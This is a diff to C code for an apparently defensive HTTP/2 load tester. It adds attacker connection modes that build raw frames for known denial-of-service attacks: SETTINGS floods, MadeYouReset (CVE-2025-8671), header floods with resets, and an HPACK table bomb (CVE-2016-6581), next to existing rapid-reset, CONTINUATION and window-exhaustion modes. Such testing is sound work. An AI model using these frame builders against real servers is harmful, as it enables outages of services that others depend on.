@@ -1,7 +1,11 @@
 /* Attackers beside the load: connections that say raw octets at a rate of their own, and are made anew when they are told off.
  *
  * pings         PING frames
+ * settings      SETTINGS frames
  * resets        a request and its RST_STREAM (rapid reset, CVE-2023-44487)
+ * made-resets   a request and a WINDOW_UPDATE of nothing, for which the gateway has to reset it (MadeYouReset, CVE-2025-8671)
+ * headers       a request of forty fields that are in no table, and its RST_STREAM
+ * bombs         a request of a hundred octets that say a field of the table of 3,500 octets a hundred times (CVE-2016-6581)
  * continuations a header block of a CONTINUATION a unit, that never ends
  * windows       a hundred requests with no window for their answers, of which the gateway keeps what fits one; then an octet of window for one of them (CVE-2019-9511, 9517)
  * answers       the same, but with new requests all the time, the oldest of a hundred being reset: 64 KiB that the gateway keeps in vain, each
@@ -21,7 +25,7 @@
 
 enum { F_DATA = 0, F_HEADERS = 1, F_RST = 3, F_SETTINGS = 4, F_PING = 6, F_WINDOW = 8, F_CONTINUATION = 9 };
 
-const char *const options_attacks[] = {"none", "pings", "resets", "continuations", "windows", "answers", "octets", NULL};
+const char *const options_attacks[] = {"none", "pings", "settings", "resets", "made-resets", "headers", "bombs", "continuations", "windows", "answers", "octets", NULL};
 
 static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
@@ -56,6 +60,42 @@ static uint8_t *request(struct attacker *a, uint8_t *p, bool end)
     return octets(p, block, BLOCK);
 }
 
+#define FIELDS    40
+#define BOMB      3500
+#define BOMB_TEXT (9 + BLOCK + BOMB + 16)
+
+/* The same with fields that nobody knows. */
+static uint8_t *request_of_many(struct attacker *a, uint8_t *p)
+{
+    static const char field[] = "\x00\x01x\x05value";
+    a->stream += 2;
+    p = frame(p, (uint32_t)(BLOCK + FIELDS * (sizeof(field) - 1)), F_HEADERS, 4, a->stream);
+    p = octets(p, block, BLOCK);
+    for (int i = 0; i < FIELDS; i++)
+        p = octets(p, field, sizeof(field) - 1);
+    return p;
+}
+
+/* A field of BOMB octets comes into the table... */
+static uint8_t *bomb(struct attacker *a, uint8_t *p)
+{
+    const uint8_t head[] = {0x40, 1, 'x', 0x7f, (BOMB - 127) % 128 | 0x80, (BOMB - 127) / 128};
+    a->stream += 2;
+    p = frame(p, (uint32_t)(BLOCK + sizeof(head) + BOMB), F_HEADERS, 5, a->stream);
+    p = octets(octets(p, block, BLOCK), head, sizeof(head));
+    memset(p, 'v', BOMB);
+    return p + BOMB;
+}
+
+/* ...and is said again and again. */
+static uint8_t *blast(struct attacker *a, uint8_t *p)
+{
+    a->stream += 2;
+    p = octets(frame(p, BLOCK + 100, F_HEADERS, 5, a->stream), block, BLOCK);
+    memset(p, 0x80 | 62, 100);
+    return p + 100;
+}
+
 static uint8_t *reset(uint8_t *p, uint32_t id)
 {
     return word(frame(p, 4, F_RST, 0, id), HTTP2_CANCEL);
@@ -79,6 +119,8 @@ static uint8_t *begin(const struct peer *p, struct attacker *a, uint8_t *at)
         at = request(a, at, false);
         at = frame(at, 16384, F_DATA, 0, 1);
     }
+    if (p->options.attack == ATTACK_BOMBS)
+        at = bomb(a, at);
     return at;
 }
 
@@ -89,9 +131,19 @@ static uint8_t *unit(const struct peer *p, struct attacker *a, uint8_t *at)
     switch (p->options.attack) {
     case ATTACK_PINGS:
         return octets(frame(at, 8, F_PING, 0, 0), "attacker", 8);
+    case ATTACK_SETTINGS:
+        return word(octets(frame(at, 6, F_SETTINGS, 0, 0), "\0\3", 2), 100); /* SETTINGS_MAX_CONCURRENT_STREAMS */
     case ATTACK_RESETS:
         at = request(a, at, false);
         return reset(at, a->stream);
+    case ATTACK_MADE_RESETS:
+        at = request(a, at, false);
+        return word(frame(at, 4, F_WINDOW, 0, a->stream), 0);
+    case ATTACK_HEADERS:
+        at = request_of_many(a, at);
+        return reset(at, a->stream);
+    case ATTACK_BOMBS:
+        return blast(a, at);
     case ATTACK_CONTINUATIONS: { /* an empty literal field after the other */
         at = frame(at, sizeof(junk), F_CONTINUATION, 0, 1);
         for (unsigned i = 0; i < sizeof(junk) / 4; i++)
@@ -149,7 +201,7 @@ struct attacker *attack_of(const struct peer *p, const void *user)
 
 void attack_event(struct peer *p, struct attacker *a, uint32_t events, uint64_t now)
 {
-    uint8_t text[512];
+    uint8_t text[256 + BOMB_TEXT];
     const uint8_t *in;
     if (events & TCP_EVENT_CONNECTED) {
         size_t n = (size_t)(begin(p, a, text) - text);
